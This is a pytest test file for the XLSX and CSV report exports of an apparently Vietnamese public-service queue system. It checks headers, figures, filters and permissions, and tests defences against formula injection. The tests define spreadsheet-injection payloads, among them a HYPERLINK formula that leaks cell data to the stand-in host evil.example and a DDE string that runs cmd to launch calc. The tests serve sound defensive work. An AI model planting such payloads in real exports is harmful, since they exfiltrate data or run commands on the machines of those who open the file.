"""Exports: the XLSX opened with openpyxl and the CSV read back, headers in Vietnamese."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from conftest import World
from openpyxl import load_workbook
from report_day import DAY, play_day

from server.services.reports.export import csv_text


@pytest.fixture
def day(client, world: World, session, app) -> dict[str, int]:
    """The hand-computed day of report_day.py."""
    return play_day(client, world, session, app)


def export(client, world: World, query: str, who: str = "manager"):
    """GET /reports/export for the world's office over the day."""
    return client.get(
        f"/api/v1/reports/export?office_id={world.office.id}&from={DAY}&to={DAY}&{query}",
        headers=world.headers(who),
    )


def rows_of(sheet) -> list[list]:
    """All cell values of a sheet, row by row."""
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_has_a_sheet_per_view_with_vietnamese_headers_and_numbers(client, world, day):
    response = export(client, world, "format=xlsx&period=day")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert (
        'filename="bao-cao-2024-06-03-2024-06-03.xlsx"' in response.headers["Content-Disposition"]
    )
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == [
        "Tổng hợp",
        "Theo lĩnh vực",
        "Theo quầy",
        "Theo cán bộ",
        "Theo kỳ",
        "Theo kênh",
    ]

    services = rows_of(workbook["Theo lĩnh vực"])
    header = services[0]
    assert header[:6] == [
        "Đơn vị",
        "Ký hiệu",
        "Lĩnh vực",
        "Số phiếu đã cấp",
        "Đã phục vụ",
        "Vắng mặt",
    ]
    for name in (
        "Thời gian chờ trung bình (phút)",
        "Thời gian chờ P90 (phút)",
        "Thời gian phục vụ trung vị (phút)",
        "Rất hài lòng",
        "Không hài lòng (%)",
        "Tỷ lệ vắng mặt (%)",
    ):
        assert name in header, name
    column = {name: index for index, name in enumerate(header)}
    justice = next(row for row in services if row[2] == "Tư pháp – Hộ tịch")
    assert justice[column["Ký hiệu"]] == "B"
    assert justice[column["Số phiếu đã cấp"]] == 4
    assert justice[column["Vắng mặt"]] == 1
    assert justice[column["Thời gian chờ trung bình (phút)"]] == pytest.approx(4.7)  # 280 s
    assert justice[column["Thời gian chờ P90 (phút)"]] == pytest.approx(6.4)  # 384 s
    assert justice[column["Thời gian phục vụ trung bình (phút)"]] == pytest.approx(2.5)  # 150 s
    assert justice[column["Không hài lòng"]] == 1
    assert justice[column["Không hài lòng (%)"]] == 100.0
    land = next(row for row in services if row[2] == "Đất đai")
    assert land[column["Chuyển đi"]] == 1
    assert land[column["Rất hài lòng (%)"]] == 50.0
    totals = services[-1]
    assert totals[2] == "Tổng cộng"
    assert totals[column["Số phiếu đã cấp"]] == 6
    assert totals[column["Tỷ lệ vắng mặt (%)"]] == 20.0

    clerks = rows_of(workbook["Theo cán bộ"])
    assert clerks[0][:3] == ["Đơn vị", "Cán bộ", "Tên đăng nhập"]
    assert {row[1] for row in clerks[1:-1]} == {"Trần Thị Một", "Lê Văn Hai"}
    periods = rows_of(workbook["Theo kỳ"])
    assert periods[0][:3] == ["Kỳ", "Từ ngày", "Đến ngày"]
    assert periods[1][0] == "03/06/2024" and periods[1][1].date() == date(2024, 6, 3)

    cover = rows_of(workbook["Tổng hợp"])
    assert cover[0][0].startswith("BÁO CÁO TÌNH HÌNH TIẾP NHẬN")
    facts = {row[0]: row[1] for row in cover if row and row[0]}
    assert facts["Đơn vị"] == "Bộ phận Một cửa huyện Thử"
    assert facts["Số phiếu đã cấp"] == 6
    assert facts["Thời gian chờ trung bình (phút)"] == pytest.approx(4.6)  # 276 s


def test_csv_is_one_view_in_utf8_with_a_bom(client, world, day):
    response = export(client, world, "format=csv&group=counter")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # charset once
    assert response.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Đơn vị", "Quầy", "Số phiếu đã cấp"]
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["Quầy 2"][2] == "3"
    assert by_name["Tổng cộng"][2] == "6"


def test_export_follows_the_filters(client, world, day):
    response = export(client, world, f"format=csv&service_id={world.land.id}")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:]] == ["Đất đai", "Tổng cộng"]


@pytest.mark.parametrize("query", ["format=pdf", "format=csv&group=week"])
def test_bad_export_arguments_are_422(client, world, query):
    response = export(client, world, query)
    assert response.status_code == 422
    assert response.json["error"]["code"] == "invalid_field"


def test_clerks_cannot_export(client, world):
    assert export(client, world, "format=xlsx", "clerk1").status_code == 403
    assert client.get(f"/api/v1/reports/export?office_id={world.office.id}").status_code == 401


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def rename_through_admin(client, world: World) -> None:
    """An office admin names the office, a service and a clerk like formulas."""
    admin = world.headers("admin")
    renames = [
        (f"/api/v1/admin/offices/{world.office.id}", {"name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
        (f"/api/v1/admin/services/{world.land.id}", {"name": HYPERLINK}),
        (f"/api/v1/admin/users/{world.clerk1[0].id}", {"full_name": DDE}),
    ]
    for path, body in renames:
        response = client.patch(path, json=body, headers=admin)
        assert response.status_code == 200, response.get_data(as_text=True)


def test_names_that_look_like_formulas_stay_text_in_the_csv(client, world, day):
    rename_through_admin(client, world)
    cells = []
    for group in ("service", "counter", "clerk"):
        response = export(client, world, f"format=csv&group={group}")
        assert response.status_code == 200
        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
        cells += [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'" + DDE in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_names_that_look_like_formulas_are_string_cells_in_the_xlsx(client, world, day):
    rename_through_admin(client, world)
    response = export(client, world, "format=xlsx&period=day")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    text_cells = {
        cell.value: cell.data_type
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))
    }
    assert text_cells[HYPERLINK] == "s"
    assert text_cells[DDE] == "s"
    assert set(text_cells.values()) == {"s"}  # no formula anywhere
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


def test_characters_xml_forbids_are_dropped_from_the_xlsx(client, world, day, session):
    # Names stored before the admin checks existed may hold control characters.
    world.land.name = "Đất\x01 đai\x0b\ufffe"
    world.clerk1[0].full_name = "Trần\x00 Thị Một"
    session.commit()
    response = export(client, world, "format=xlsx&period=day")
    assert response.status_code == 200, response.get_data(as_text=True)
    workbook = load_workbook(io.BytesIO(response.data))
    values = [v for row in workbook["Theo lĩnh vực"].iter_rows(values_only=True) for v in row]
    assert "Đất đai" in values
    clerks = [v for row in workbook["Theo cán bộ"].iter_rows(values_only=True) for v in row]
    assert "Trần Thị Một" in clerks
    csv_response = export(client, world, "format=csv&group=service")
    assert "Đất đai" in csv_response.data.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("\x01=1+1", "'=1+1"),
        ("Tư pháp – Hộ tịch", "Tư pháp – Hộ tịch"),
        ("Quầy 1 = 2", "Quầy 1 = 2"),
    ],
)
def test_csv_text_neutralises_formula_starts_only(name, cell):
    assert csv_text(name) == cell
